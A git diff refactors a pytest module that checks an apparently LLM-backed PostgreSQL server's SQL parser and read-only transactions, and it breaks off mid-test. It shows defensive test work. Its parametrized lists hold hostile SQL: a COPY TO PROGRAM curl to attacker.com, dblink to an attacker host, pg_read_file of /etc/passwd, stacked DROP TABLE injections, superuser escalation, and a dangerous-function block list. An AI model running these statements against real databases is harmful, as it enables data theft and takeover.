@@ -6,21 +6,23 @@ This module tests the multi-layered security defenses:
 3. Dangerous function blocking
 4. SQL injection prevention
 
-Uses real PostgreSQL instances via testcontainers for accurate behavior testing.
+Uses the per-worker PostgreSQL server from conftest (one boot per session)
+with a module-private database and connection pool for accurate behavior testing.
 """
 
 import asyncio
 import contextlib
-from collections.abc import AsyncGenerator
+import json
+from collections.abc import AsyncGenerator, Iterator
+from pathlib import Path
 from unittest.mock import AsyncMock, MagicMock, patch
 
 import asyncpg
 import pytest
-from testcontainers.postgres import PostgresContainer
+import pytest_asyncio
 
 from pg_mcp.config.models import (
     AppConfig,
-    DatabaseConfig,
     OpenAIConfig,
     RateLimitConfig,
     ServerConfig,
@@ -31,97 +33,172 @@ from pg_mcp.models.errors import UnsafeSQLError
 from pg_mcp.models.query import QueryRequest, ReturnType
 from pg_mcp.server import PgMcpServer
 
+from .conftest import PostgresServer
+
+
+# Schema is created once per module; seed rows are reloaded before each test
+SQL_FIXTURES_DIR = Path(__file__).parent / "fixtures"
+INIT_SECURITY_SQL = (SQL_FIXTURES_DIR / "init_security.sql").read_text()
+SEED_SECURITY_SQL = (SQL_FIXTURES_DIR / "seed_security.sql").read_text()
+
+# (sql, expected substring of the lower-cased error message)
+BLOCKED_SELECT_VARIANTS = [
+    ("SELECT * INTO new_table FROM sensitive_data", "select into"),
+    ("SELECT * FROM sensitive_data FOR UPDATE", "for update"),
+    ("SELECT * FROM sensitive_data FOR SHARE", "for share"),
+]
+
+WRITEABLE_CTE_SQL = [
+    """
+    WITH new_log AS (
+        INSERT INTO audit_log (action) VALUES ('hack') RETURNING *
+    )
+    SELECT * FROM new_log
+    """,
+    """
+    WITH deleted AS (
+        DELETE FROM sensitive_data WHERE id = 1 RETURNING *
+    )
+    SELECT * FROM deleted
+    """,
+    """
+    WITH updated AS (
+        UPDATE sensitive_data SET username = 'hacked' RETURNING *
+    )
+    SELECT * FROM updated
+    """,
+]
+
+# Dangerous functions as parallel tuples: the names double as test ids, so
+# e.g. ``-k lo_import`` selects a single case
+DANGEROUS_FUNCTION_NAMES = (
+    "pg_sleep",  # DoS
+    "dblink",  # remote connections
+    "pg_terminate_backend",
+    "pg_cancel_backend",
+    "lo_import",  # file system access
+    "lo_export",
+    "pg_read_file",
+)
+DANGEROUS_FUNCTION_SQLS = (
+    "SELECT pg_sleep(10)",
+    "SELECT * FROM dblink('host=attacker.com', 'SELECT 1')",
+    "SELECT pg_terminate_backend(1234)",
+    "SELECT pg_cancel_backend(1234)",
+    "SELECT lo_import('/etc/passwd')",
+    "SELECT lo_export(12345, '/tmp/data.txt')",
+    "SELECT pg_read_file('/etc/passwd')",
+)
 
-class TestSecurityDefenseInDepth:
-    """Defense-in-depth security tests using real PostgreSQL."""
-
-    @pytest.fixture
-    def real_db(self) -> PostgresContainer:
-        """Create a real PostgreSQL container for testing."""
-        container = PostgresContainer("postgres:16")
-        container.start()
-        yield container
-        container.stop()
-
-    @pytest.fixture
-    def database_config(self, real_db: PostgresContainer) -> DatabaseConfig:
-        """Create database config from container."""
-        return DatabaseConfig(
-            name="security_test_db",
-            host=real_db.get_container_host_ip(),
-            port=int(real_db.get_exposed_port(5432)),
-            dbname=real_db.dbname,
-            user=real_db.username,
-            password=real_db.password,  # type: ignore
-            ssl_mode="disable",  # testcontainers doesn't support SSL
-        )
-
-    @pytest.fixture
-    async def database_pool(
-        self, database_config: DatabaseConfig
-    ) -> AsyncGenerator[DatabasePool]:
-        """Create and connect database pool."""
-        pool = DatabasePool(database_config)
+# (sql, expected substring of the error message or None)
+STACKED_QUERY_SQL = [
+    ("SELECT * FROM users; DROP TABLE users; --", "multiple statements"),
+    ("SELECT 1; INSERT INTO users VALUES (1, 'hacker')", None),
+    ("SELECT 1; UPDATE users SET password = 'hacked'", None),
+]
+
+SESSION_COMMAND_SQL = [
+    ("SET ROLE superuser", "set role"),  # privilege escalation
+    ("SET SESSION AUTHORIZATION postgres", None),
+    ("COPY users TO '/tmp/users.csv'", "copy to"),  # file system write
+    ("COPY users FROM '/tmp/malicious.csv'", None),  # file system read
+    ("LISTEN channel_name", "listen"),
+    ("NOTIFY channel_name, 'payload'", "notify"),
+]
+
+EXFILTRATION_COPY_SQL = [
+    "COPY users TO STDOUT",
+    "COPY users TO PROGRAM 'curl http://attacker.com'",
+]
+
+PRIVILEGE_ESCALATION_SQL = [
+    "GRANT ALL ON users TO attacker",
+    "REVOKE ALL ON users FROM legitimate_user",
+    "CREATE USER attacker WITH PASSWORD 'hack'",
+    "ALTER USER postgres WITH SUPERUSER",
+    "CREATE EXTENSION IF NOT EXISTS dblink",
+    """
+    CREATE FUNCTION evil() RETURNS void AS $$
+    BEGIN
+        EXECUTE 'DROP TABLE users';
+    END;
+    $$ LANGUAGE plpgsql
+    """,
+]
+
+
+# SQLParser is stateless and the settings below are never mutated, so they
+# are built once per module instead of once per test.
+
+
+@pytest.fixture(scope="module")
+def sql_parser() -> SQLParser:
+    """Create SQL parser for validation tests."""
+    return SQLParser()
+
+
+@pytest.fixture(scope="module")
+def openai_config() -> OpenAIConfig:
+    """Create OpenAI settings with a dummy key."""
+    return OpenAIConfig(
+        api_key="sk-test-key",  # type: ignore
+        model="gpt-4o-mini",
+    )
+
+
+@pytest.fixture(scope="module")
+def server_config() -> ServerConfig:
+    """Create server settings with readonly transactions enabled."""
+    return ServerConfig(
+        cache_refresh_interval=3600,
+        max_result_rows=1000,
+        query_timeout=30.0,
+        use_readonly_transactions=True,  # Important for security
+    )
+
+
+@pytest_asyncio.fixture(scope="module")
+async def database_pool(
+    worker_postgres: PostgresServer,
+    worker_id: str,
+) -> AsyncGenerator[DatabasePool]:
+    """Create one pool on a module-private database, shared by all DB tests.
+
+    The pool uses the small test defaults (tests run one query at a time)
+    and lives as long as the module, so connections are opened once rather
+    than per test.
+    """
+    async with worker_postgres.temporary_database(f"security_{worker_id}") as dbname:
+        config = worker_postgres.database_config("security_test_db", dbname)
+        pool = DatabasePool(config)
         await pool.connect()
         yield pool
         await pool.disconnect()
 
-    @pytest.fixture
-    async def setup_test_tables(self, database_pool: DatabasePool) -> None:
-        """Set up test tables for security testing."""
-        # Create a simple test table
-        await database_pool.execute("""
-            CREATE TABLE sensitive_data (
-                id SERIAL PRIMARY KEY,
-                username VARCHAR(100) NOT NULL,
-                password_hash VARCHAR(255) NOT NULL,
-                secret_key VARCHAR(255)
-            )
-        """)
 
-        # Insert test data
-        await database_pool.execute("""
-            INSERT INTO sensitive_data (username, password_hash, secret_key)
-            VALUES
-                ('admin', 'hash123', 'secret_admin_key'),
-                ('user1', 'hash456', 'secret_user_key')
-        """)
+@pytest_asyncio.fixture(scope="module")
+async def security_tables(database_pool: DatabasePool) -> None:
+    """Create the security test tables once per module from init_security.sql."""
+    await database_pool.execute(INIT_SECURITY_SQL)
 
-        # Create another table for testing write operations
-        await database_pool.execute("""
-            CREATE TABLE audit_log (
-                id SERIAL PRIMARY KEY,
-                action VARCHAR(100),
-                timestamp TIMESTAMP DEFAULT NOW()
-            )
-        """)
 
-    @pytest.fixture
-    def app_config(self, database_config: DatabaseConfig) -> AppConfig:
-        """Create application configuration with readonly transactions enabled."""
-        return AppConfig(
-            databases=[database_config],
-            openai=OpenAIConfig(
-                api_key="sk-test-key",  # type: ignore
-                model="gpt-4o-mini",
-            ),
-            server=ServerConfig(
-                cache_refresh_interval=3600,
-                max_result_rows=1000,
-                query_timeout=30.0,
-                use_readonly_transactions=True,  # Important for security
-            ),
-            rate_limit=RateLimitConfig(enabled=False),
-        )
+@pytest_asyncio.fixture
+async def setup_test_tables(database_pool: DatabasePool, security_tables: None) -> None:
+    """Reset the security test tables to their seed rows before each test.
+
+    TRUNCATE on the shared tables isolates tests without recreating the
+    database; reset and reseed go out in a single round trip.
+    """
+    await database_pool.execute(
+        "TRUNCATE sensitive_data, audit_log RESTART IDENTITY;\n" + SEED_SECURITY_SQL
+    )
 
-    @pytest.fixture
-    def sql_parser(self) -> SQLParser:
-        """Create SQL parser for validation tests."""
-        return SQLParser()
+
+class TestSecurityDefenseInDepth:
+    """Defense-in-depth security tests using real PostgreSQL."""
 
     # ===== Read-Only Transaction Tests =====
 
-    @pytest.mark.asyncio
     async def test_readonly_transaction_blocks_insert(
         self,
         database_pool: DatabasePool,
@@ -137,7 +214,6 @@ class TestSecurityDefenseInDepth:
                 "INSERT INTO audit_log (action) VALUES ('test')"
             )
 
-    @pytest.mark.asyncio
     async def test_readonly_transaction_blocks_update(
         self,
         database_pool: DatabasePool,
@@ -149,7 +225,6 @@ class TestSecurityDefenseInDepth:
                 "UPDATE sensitive_data SET username = 'hacked' WHERE id = 1"
             )
 
-    @pytest.mark.asyncio
     async def test_readonly_transaction_blocks_delete(
         self,
         database_pool: DatabasePool,
@@ -159,7 +234,6 @@ class TestSecurityDefenseInDepth:
         with pytest.raises(asyncpg.ReadOnlySQLTransactionError):
             await database_pool.fetch_readonly("DELETE FROM sensitive_data WHERE id = 1")
 
-    @pytest.mark.asyncio
     async def test_readonly_transaction_blocks_truncate(
         self,
         database_pool: DatabasePool,
@@ -169,7 +243,6 @@ class TestSecurityDefenseInDepth:
         with pytest.raises(asyncpg.ReadOnlySQLTransactionError):
             await database_pool.fetch_readonly("TRUNCATE TABLE sensitive_data")
 
-    @pytest.mark.asyncio
     async def test_readonly_transaction_blocks_drop(
         self,
         database_pool: DatabasePool,
@@ -179,7 +252,6 @@ class TestSecurityDefenseInDepth:
         with pytest.raises(asyncpg.ReadOnlySQLTransactionError):
             await database_pool.fetch_readonly("DROP TABLE sensitive_data")
 
-    @pytest.mark.asyncio
     async def test_readonly_transaction_allows_select(
         self,
         database_pool: DatabasePool,
@@ -191,353 +263,169 @@ class TestSecurityDefenseInDepth:
 
     # ===== SQL Parser Validation Tests =====
 
-    def test_select_into_blocked(self, sql_parser: SQLParser) -> None:
-        """Test that SELECT INTO is blocked by SQL parser."""
-        result = sql_parser.validate("SELECT * INTO new_table FROM sensitive_data")
-        assert not result.is_safe
-        assert "select into" in result.error_message.lower()
-
-    def test_for_update_blocked(self, sql_parser: SQLParser) -> None:
-        """Test that FOR UPDATE is blocked by SQL parser."""
-        result = sql_parser.validate("SELECT * FROM sensitive_data FOR UPDATE")
-        assert not result.is_safe
-        assert "for update" in result.error_message.lower()
-
-    def test_for_share_blocked(self, sql_parser: SQLParser) -> None:
-        """Test that FOR SHARE is blocked by SQL parser."""
-        result = sql_parser.validate("SELECT * FROM sensitive_data FOR SHARE")
-        assert not result.is_safe
-        assert "for share" in result.error_message.lower()
-
-    def test_cte_with_insert_blocked(self, sql_parser: SQLParser) -> None:
-        """Test that CTE with INSERT (writeable CTE) is blocked."""
-        sql = """
-        WITH new_log AS (
-            INSERT INTO audit_log (action) VALUES ('hack') RETURNING *
-        )
-        SELECT * FROM new_log
-        """
-        result = sql_parser.validate(sql)
-        assert not result.is_safe
-
-    def test_cte_with_delete_blocked(self, sql_parser: SQLParser) -> None:
-        """Test that CTE with DELETE is blocked."""
-        sql = """
-        WITH deleted AS (
-            DELETE FROM sensitive_data WHERE id = 1 RETURNING *
-        )
-        SELECT * FROM deleted
-        """
+    @pytest.mark.parser_only
+    @pytest.mark.parametrize("sql,expected_message", BLOCKED_SELECT_VARIANTS)
+    def test_select_variant_blocked(
+        self, sql_parser: SQLParser, sql: str, expected_message: str
+    ) -> None:
+        """Test that SELECT INTO and row-locking clauses are blocked by SQL parser."""
         result = sql_parser.validate(sql)
         assert not result.is_safe
+        assert expected_message in result.error_message.lower()
 
-    def test_cte_with_update_blocked(self, sql_parser: SQLParser) -> None:
-        """Test that CTE with UPDATE is blocked."""
-        sql = """
-        WITH updated AS (
-            UPDATE sensitive_data SET username = 'hacked' RETURNING *
-        )
-        SELECT * FROM updated
-        """
+    @pytest.mark.parser_only
+    @pytest.mark.parametrize("sql", WRITEABLE_CTE_SQL)
+    def test_writeable_cte_blocked(self, sql_parser: SQLParser, sql: str) -> None:
+        """Test that CTEs wrapping INSERT/UPDATE/DELETE are blocked."""
         result = sql_parser.validate(sql)
         assert not result.is_safe
 
     # ===== Dangerous Function Tests =====
 
-    def test_pg_sleep_blocked(self, sql_parser: SQLParser) -> None:
-        """Test that pg_sleep is blocked (DoS prevention)."""
-        result = sql_parser.validate("SELECT pg_sleep(10)")
-        assert not result.is_safe
-        assert "pg_sleep" in result.error_message.lower()
-
-    def test_dblink_blocked(self, sql_parser: SQLParser) -> None:
-        """Test that dblink is blocked (prevents remote connections)."""
-        result = sql_parser.validate(
-            "SELECT * FROM dblink('host=attacker.com', 'SELECT 1')"
-        )
-        assert not result.is_safe
-
-    def test_pg_terminate_backend_blocked(self, sql_parser: SQLParser) -> None:
-        """Test that pg_terminate_backend is blocked."""
-        result = sql_parser.validate("SELECT pg_terminate_backend(1234)")
-        assert not result.is_safe
-
-    def test_pg_cancel_backend_blocked(self, sql_parser: SQLParser) -> None:
-        """Test that pg_cancel_backend is blocked."""
-        result = sql_parser.validate("SELECT pg_cancel_backend(1234)")
-        assert not result.is_safe
-
-    def test_lo_import_blocked(self, sql_parser: SQLParser) -> None:
-        """Test that lo_import is blocked (file system access)."""
-        result = sql_parser.validate("SELECT lo_import('/etc/passwd')")
-        assert not result.is_safe
-
-    def test_lo_export_blocked(self, sql_parser: SQLParser) -> None:
-        """Test that lo_export is blocked (file system access)."""
-        result = sql_parser.validate("SELECT lo_export(12345, '/tmp/data.txt')")
-        assert not result.is_safe
-
-    def test_pg_read_file_blocked(self, sql_parser: SQLParser) -> None:
-        """Test that pg_read_file is blocked (file system access)."""
-        result = sql_parser.validate("SELECT pg_read_file('/etc/passwd')")
+    @pytest.mark.parser_only
+    @pytest.mark.parametrize(
+        "function_name,sql",
+        zip(DANGEROUS_FUNCTION_NAMES, DANGEROUS_FUNCTION_SQLS, strict=True),
+        ids=DANGEROUS_FUNCTION_NAMES,
+    )
+    def test_dangerous_function_blocked(
+        self, sql_parser: SQLParser, function_name: str, sql: str
+    ) -> None:
+        """Test that DoS, remote connection and file access functions are blocked."""
+        result = sql_parser.validate(sql)
         assert not result.is_safe
+        assert function_name in result.error_message.lower()
 
     # ===== Stacked Queries (SQL Injection) Tests =====
 
-    def test_stacked_queries_blocked(self, sql_parser: SQLParser) -> None:
+    @pytest.mark.parser_only
+    @pytest.mark.parametrize("sql,expected_message", STACKED_QUERY_SQL)
+    def test_stacked_queries_blocked(
+        self, sql_parser: SQLParser, sql: str, expected_message: str | None
+    ) -> None:
         """Test that stacked queries (multiple statements) are blocked."""
-        result = sql_parser.validate(
-            "SELECT * FROM users; DROP TABLE users; --"
-        )
-        assert not result.is_safe
-        assert "multiple statements" in result.error_message.lower()
-
-    def test_stacked_queries_with_insert_blocked(self, sql_parser: SQLParser) -> None:
-        """Test stacked query with INSERT blocked."""
-        result = sql_parser.validate(
-            "SELECT 1; INSERT INTO users VALUES (1, 'hacker')"
-        )
-        assert not result.is_safe
-
-    def test_stacked_queries_with_update_blocked(self, sql_parser: SQLParser) -> None:
-        """Test stacked query with UPDATE blocked."""
-        result = sql_parser.validate(
-            "SELECT 1; UPDATE users SET password = 'hacked'"
-        )
-        assert not result.is_safe
-
-    # ===== SET ROLE / Privilege Escalation Tests =====
-
-    def test_set_role_blocked(self, sql_parser: SQLParser) -> None:
-        """Test that SET ROLE is blocked (privilege escalation prevention)."""
-        result = sql_parser.validate("SET ROLE superuser")
-        assert not result.is_safe
-        assert "set role" in result.error_message.lower()
-
-    def test_set_session_authorization_blocked(self, sql_parser: SQLParser) -> None:
-        """Test that SET SESSION AUTHORIZATION is blocked."""
-        result = sql_parser.validate("SET SESSION AUTHORIZATION postgres")
-        assert not result.is_safe
-
-    # ===== COPY Command Tests =====
-
-    def test_copy_to_blocked(self, sql_parser: SQLParser) -> None:
-        """Test that COPY TO is blocked (file system write)."""
-        result = sql_parser.validate("COPY users TO '/tmp/users.csv'")
-        assert not result.is_safe
-        assert "copy to" in result.error_message.lower()
-
-    def test_copy_from_blocked(self, sql_parser: SQLParser) -> None:
-        """Test that COPY FROM is blocked (file system read)."""
-        result = sql_parser.validate("COPY users FROM '/tmp/malicious.csv'")
+        result = sql_parser.validate(sql)
         assert not result.is_safe
+        if expected_message:
+            assert expected_message in result.error_message.lower()
 
-    # ===== LISTEN/NOTIFY Tests =====
+    # ===== Session Command Tests (SET ROLE, COPY, LISTEN/NOTIFY) =====
 
-    def test_listen_blocked(self, sql_parser: SQLParser) -> None:
-        """Test that LISTEN is blocked."""
-        result = sql_parser.validate("LISTEN channel_name")
-        assert not result.is_safe
-        assert "listen" in result.error_message.lower()
-
-    def test_notify_blocked(self, sql_parser: SQLParser) -> None:
-        """Test that NOTIFY is blocked."""
-        result = sql_parser.validate("NOTIFY channel_name, 'payload'")
+    @pytest.mark.parser_only
+    @pytest.mark.parametrize("sql,expected_message", SESSION_COMMAND_SQL)
+    def test_session_command_blocked(
+        self, sql_parser: SQLParser, sql: str, expected_message: str | None
+    ) -> None:
+        """Test that privilege, file system and notification commands are blocked."""
+        result = sql_parser.validate(sql)
         assert not result.is_safe
-        assert "notify" in result.error_message.lower()
-
-    # ===== End-to-End Security Tests =====
+        if expected_message:
+            assert expected_message in result.error_message.lower()
+
+
+def _security_request(question: str) -> QueryRequest:
+    """Build a RESULT query against the security test database."""
+    return QueryRequest(
+        question=question,
+        database="security_test_db",
+        return_type=ReturnType.RESULT,
+    )
+
+
+@contextlib.contextmanager
+def patch_llm_sql(server: PgMcpServer, sql: str, tokens: int = 40) -> Iterator[None]:
+    """Make the server's LLM completion return ``sql``."""
+    response = MagicMock()
+    response.choices = [MagicMock()]
+    response.choices[0].message.content = json.dumps({"sql": sql, "explanation": ""})
+    response.usage = MagicMock(total_tokens=tokens)
+    completions = server._openai_client._client.chat.completions
+    with patch.object(completions, "create", AsyncMock(return_value=response)):
+        yield
+
+
+@pytest_asyncio.fixture(scope="class")
+async def started_server(
+    worker_postgres: PostgresServer,
+    openai_config: OpenAIConfig,
+    server_config: ServerConfig,
+) -> AsyncGenerator[PgMcpServer]:
+    """Start one server per test class on the worker's default database."""
+    app_config = AppConfig(
+        databases=[worker_postgres.database_config("security_test_db")],
+        openai=openai_config,
+        server=server_config,
+        rate_limit=RateLimitConfig(enabled=False),
+    )
+    server = PgMcpServer(app_config)
+    await server.startup()
+    yield server
+    await server.shutdown()
+
+
+class TestLLMResponseSecurity:
+    """End-to-end tests: unsafe SQL from the LLM is rejected before execution.
+
+    The SQL never reaches the database, so one started server (pool connect,
+    schema cache load) is shared by the whole class and each test only swaps
+    the mocked completion.
+    """
 
-    @pytest.mark.asyncio
     async def test_unsafe_sql_rejected_before_execution(
-        self,
-        setup_test_tables: None,
-        app_config: AppConfig,
+        self, started_server: PgMcpServer
     ) -> None:
         """Test that unsafe SQL is rejected before reaching the database."""
-        # Mock OpenAI to return unsafe SQL
-        mock_response = MagicMock()
-        mock_response.choices = [MagicMock()]
-        mock_response.choices[0].message.content = (
-            '{"sql": "DELETE FROM sensitive_data WHERE id = 1", '
-            '"explanation": "Delete data"}'
-        )
-        mock_response.usage = MagicMock()
-        mock_response.usage.total_tokens = 50
-
-        with patch("pg_mcp.infrastructure.openai_client.AsyncOpenAI") as mock_openai:
-            mock_client = AsyncMock()
-            mock_client.chat.completions.create = AsyncMock(return_value=mock_response)
-            mock_openai.return_value = mock_client
-
-            server = PgMcpServer(app_config)
-            await server.startup()
-
-            try:
-                request = QueryRequest(
-                    question="Delete some data",
-                    database="security_test_db",
-                    return_type=ReturnType.RESULT,
-                )
-
-                # The unsafe SQL should be rejected before execution
-                with pytest.raises(UnsafeSQLError):
-                    await server.execute_query(request)
-            finally:
-                await server.shutdown()
+        with (
+            patch_llm_sql(started_server, "DELETE FROM sensitive_data WHERE id = 1", tokens=50),
+            pytest.raises(UnsafeSQLError),
+        ):
+            await started_server.execute_query(_security_request("Delete some data"))
 
-    @pytest.mark.asyncio
     async def test_pg_sleep_in_llm_response_blocked(
-        self,
-        setup_test_tables: None,
-        app_config: AppConfig,
+        self, started_server: PgMcpServer
     ) -> None:
         """Test that pg_sleep in LLM response is blocked."""
-        mock_response = MagicMock()
-        mock_response.choices = [MagicMock()]
-        mock_response.choices[0].message.content = (
-            '{"sql": "SELECT pg_sleep(100)", "explanation": "Sleep for DoS"}'
-        )
-        mock_response.usage = MagicMock()
-        mock_response.usage.total_tokens = 30
-
-        with patch("pg_mcp.infrastructure.openai_client.AsyncOpenAI") as mock_openai:
-            mock_client = AsyncMock()
-            mock_client.chat.completions.create = AsyncMock(return_value=mock_response)
-            mock_openai.return_value = mock_client
-
-            server = PgMcpServer(app_config)
-            await server.startup()
-
-            try:
-                request = QueryRequest(
-                    question="Make the database slow",
-                    database="security_test_db",
-                    return_type=ReturnType.RESULT,
-                )
-
-                with pytest.raises(UnsafeSQLError):
-                    await server.execute_query(request)
-            finally:
-                await server.shutdown()
+        with (
+            patch_llm_sql(started_server, "SELECT pg_sleep(100)", tokens=30),
+            pytest.raises(UnsafeSQLError),
+        ):
+            await started_server.execute_query(_security_request("Make the database slow"))
 
-    @pytest.mark.asyncio
     async def test_stacked_query_in_llm_response_blocked(
-        self,
-        setup_test_tables: None,
-        app_config: AppConfig,
+        self, started_server: PgMcpServer
     ) -> None:
         """Test that stacked queries in LLM response are blocked."""
-        mock_response = MagicMock()
-        mock_response.choices = [MagicMock()]
-        mock_response.choices[0].message.content = (
-            '{"sql": "SELECT 1; DROP TABLE sensitive_data", '
-            '"explanation": "SQL injection attempt"}'
-        )
-        mock_response.usage = MagicMock()
-        mock_response.usage.total_tokens = 40
-
-        with patch("pg_mcp.infrastructure.openai_client.AsyncOpenAI") as mock_openai:
-            mock_client = AsyncMock()
-            mock_client.chat.completions.create = AsyncMock(return_value=mock_response)
-            mock_openai.return_value = mock_client
-
-            server = PgMcpServer(app_config)
-            await server.startup()
-
-            try:
-                request = QueryRequest(
-                    question="Drop the table",
-                    database="security_test_db",
-                    return_type=ReturnType.RESULT,
-                )
-
-                with pytest.raises(UnsafeSQLError):
-                    await server.execute_query(request)
-            finally:
-                await server.shutdown()
+        with (
+            patch_llm_sql(started_server, "SELECT 1; DROP TABLE sensitive_data"),
+            pytest.raises(UnsafeSQLError),
+        ):
+            await started_server.execute_query(_security_request("Drop the table"))
 
-    @pytest.mark.asyncio
     async def test_for_update_in_llm_response_blocked(
-        self,
-        setup_test_tables: None,
-        app_config: AppConfig,
+        self, started_server: PgMcpServer
     ) -> None:
         """Test that FOR UPDATE in LLM response is blocked."""
-        mock_response = MagicMock()
-        mock_response.choices = [MagicMock()]
-        mock_response.choices[0].message.content = (
-            '{"sql": "SELECT * FROM sensitive_data FOR UPDATE", '
-            '"explanation": "Lock rows"}'
-        )
-        mock_response.usage = MagicMock()
-        mock_response.usage.total_tokens = 35
-
-        with patch("pg_mcp.infrastructure.openai_client.AsyncOpenAI") as mock_openai:
-            mock_client = AsyncMock()
-            mock_client.chat.completions.create = AsyncMock(return_value=mock_response)
-            mock_openai.return_value = mock_client
-
-            server = PgMcpServer(app_config)
-            await server.startup()
-
-            try:
-                request = QueryRequest(
-                    question="Lock some rows",
-                    database="security_test_db",
-                    return_type=ReturnType.RESULT,
-                )
-
-                with pytest.raises(UnsafeSQLError):
-                    await server.execute_query(request)
-            finally:
-                await server.shutdown()
+        with (
+            patch_llm_sql(started_server, "SELECT * FROM sensitive_data FOR UPDATE", tokens=35),
+            pytest.raises(UnsafeSQLError),
+        ):
+            await started_server.execute_query(_security_request("Lock some rows"))
 
-    @pytest.mark.asyncio
     async def test_select_into_in_llm_response_blocked(
-        self,
-        setup_test_tables: None,
-        app_config: AppConfig,
+        self, started_server: PgMcpServer
     ) -> None:
         """Test that SELECT INTO in LLM response is blocked."""
-        mock_response = MagicMock()
-        mock_response.choices = [MagicMock()]
-        mock_response.choices[0].message.content = (
-            '{"sql": "SELECT * INTO stolen_data FROM sensitive_data", '
-            '"explanation": "Create new table"}'
-        )
-        mock_response.usage = MagicMock()
-        mock_response.usage.total_tokens = 40
-
-        with patch("pg_mcp.infrastructure.openai_client.AsyncOpenAI") as mock_openai:
-            mock_client = AsyncMock()
-            mock_client.chat.completions.create = AsyncMock(return_value=mock_response)
-            mock_openai.return_value = mock_client
-
-            server = PgMcpServer(app_config)
-            await server.startup()
-
-            try:
-                request = QueryRequest(
-                    question="Create a backup table",
-                    database="security_test_db",
-                    return_type=ReturnType.RESULT,
-                )
-
-                with pytest.raises(UnsafeSQLError):
-                    await server.execute_query(request)
-            finally:
-                await server.shutdown()
+        with (
+            patch_llm_sql(started_server, "SELECT * INTO stolen_data FROM sensitive_data"),
+            pytest.raises(UnsafeSQLError),
+        ):
+            await started_server.execute_query(_security_request("Create a backup table"))
 
 
+@pytest.mark.parser_only
 class TestSQLInjectionPrevention:
     """Tests specifically for SQL injection prevention."""
 
-    @pytest.fixture
-    def sql_parser(self) -> SQLParser:
-        """Create SQL parser for validation tests."""
-        return SQLParser()
-
     def test_union_based_injection_safe_when_valid_select(
         self, sql_parser: SQLParser
     ) -> None:
@@ -613,24 +501,14 @@ class TestSQLInjectionPrevention:
         # The key point is no second statement executes
 
 
+@pytest.mark.parser_only
 class TestDataExfiltrationPrevention:
     """Tests for preventing data exfiltration attacks."""
 
-    @pytest.fixture
-    def sql_parser(self) -> SQLParser:
-        """Create SQL parser for validation tests."""
-        return SQLParser()
-
-    def test_copy_to_stdout_blocked(self, sql_parser: SQLParser) -> None:
-        """Test that COPY TO STDOUT is blocked."""
-        result = sql_parser.validate("COPY users TO STDOUT")
-        assert not result.is_safe
-
-    def test_copy_program_blocked(self, sql_parser: SQLParser) -> None:
-        """Test that COPY with PROGRAM is blocked."""
-        result = sql_parser.validate(
-            "COPY users TO PROGRAM 'curl http://attacker.com'"
-        )
+    @pytest.mark.parametrize("sql", EXFILTRATION_COPY_SQL)
+    def test_copy_exfiltration_blocked(self, sql_parser: SQLParser, sql: str) -> None:
+        """Test that COPY TO STDOUT and COPY ... PROGRAM are blocked."""
+        result = sql_parser.validate(sql)
         assert not result.is_safe
 
     def test_pg_dump_style_queries_allowed(self, sql_parser: SQLParser) -> None:
@@ -644,38 +522,7 @@ class TestDataExfiltrationPrevention:
 class TestDenialOfServicePrevention:
     """Tests for preventing DoS attacks."""
 
-    @pytest.fixture
-    def sql_parser(self) -> SQLParser:
-        """Create SQL parser for validation tests."""
-        return SQLParser()
-
-    @pytest.fixture
-    def real_db(self) -> PostgresContainer:
-        """Create a real PostgreSQL container for testing."""
-        container = PostgresContainer("postgres:16")
-        container.start()
-        yield container
-        container.stop()
-
-    @pytest.fixture
-    async def database_pool(
-        self, real_db: PostgresContainer
-    ) -> AsyncGenerator[DatabasePool]:
-        """Create and connect database pool."""
-        config = DatabaseConfig(
-            name="dos_test",
-            host=real_db.get_container_host_ip(),
-            port=int(real_db.get_exposed_port(5432)),
-            dbname=real_db.dbname,
-            user=real_db.username,
-            password=real_db.password,  # type: ignore
-            ssl_mode="disable",  # testcontainers doesn't support SSL
-        )
-        pool = DatabasePool(config)
-        await pool.connect()
-        yield pool
-        await pool.disconnect()
-
+    @pytest.mark.parser_only
     def test_pg_sleep_variants_blocked(self, sql_parser: SQLParser) -> None:
         """Test that all pg_sleep variants are blocked."""
         variants = [
@@ -690,6 +537,7 @@ class TestDenialOfServicePrevention:
             result = sql_parser.validate(query)
             assert not result.is_safe, f"Query should be blocked: {query}"
 
+    @pytest.mark.parser_only
     def test_generate_series_allowed(self, sql_parser: SQLParser) -> None:
         """Test that generate_series is allowed (useful for reporting)."""
         result = sql_parser.validate(
@@ -697,7 +545,6 @@ class TestDenialOfServicePrevention:
         )
         assert result.is_safe
 
-    @pytest.mark.asyncio
     async def test_statement_timeout_enforced(
         self,
         database_pool: DatabasePool,
@@ -705,66 +552,34 @@ class TestDenialOfServicePrevention:
         """Test that statement timeout is enforced at database level."""
         # Create a table for testing
         await database_pool.execute("""
-            CREATE TABLE test_data (id SERIAL PRIMARY KEY, value TEXT)
-        """)
-        await database_pool.execute("""
+            CREATE UNLOGGED TABLE test_data (id SERIAL PRIMARY KEY, value TEXT);
             INSERT INTO test_data (value)
-            SELECT md5(random()::text) FROM generate_series(1, 100)
+            SELECT md5(random()::text) FROM generate_series(1, 100);
         """)
 
         # Test that very short timeout causes cancellation
         # Note: This tests the database-level timeout mechanism
         # Setting a 1ms timeout should cause most queries to fail
-        with contextlib.suppress(
-            asyncpg.QueryCanceledError, asyncio.TimeoutError, TimeoutError
-        ):
-            await database_pool.fetch_readonly(
-                "SELECT * FROM test_data, test_data t2, test_data t3 LIMIT 1",
-                timeout=0.001,
-            )
-            # Timeout is expected behavior - suppress the exception
+        try:
+            with contextlib.suppress(
+                asyncpg.QueryCanceledError, asyncio.TimeoutError, TimeoutError
+            ):
+                await database_pool.fetch_readonly(
+                    "SELECT * FROM test_data, test_data t2, test_data t3 LIMIT 1",
+                    timeout=0.001,
+                )
+                # Timeout is expected behavior - suppress the exception
+        finally:
+            # The database is shared by the module
+            await database_pool.execute("DROP TABLE test_data")
 
 
+@pytest.mark.parser_only
 class TestPrivilegeEscalationPrevention:
     """Tests for preventing privilege escalation attacks."""
 
-    @pytest.fixture
-    def sql_parser(self) -> SQLParser:
-        """Create SQL parser for validation tests."""
-        return SQLParser()
-
-    def test_grant_blocked(self, sql_parser: SQLParser) -> None:
-        """Test that GRANT is blocked."""
-        result = sql_parser.validate("GRANT ALL ON users TO attacker")
-        assert not result.is_safe
-
-    def test_revoke_blocked(self, sql_parser: SQLParser) -> None:
-        """Test that REVOKE is blocked."""
-        result = sql_parser.validate("REVOKE ALL ON users FROM legitimate_user")
-        assert not result.is_safe
-
-    def test_create_user_blocked(self, sql_parser: SQLParser) -> None:
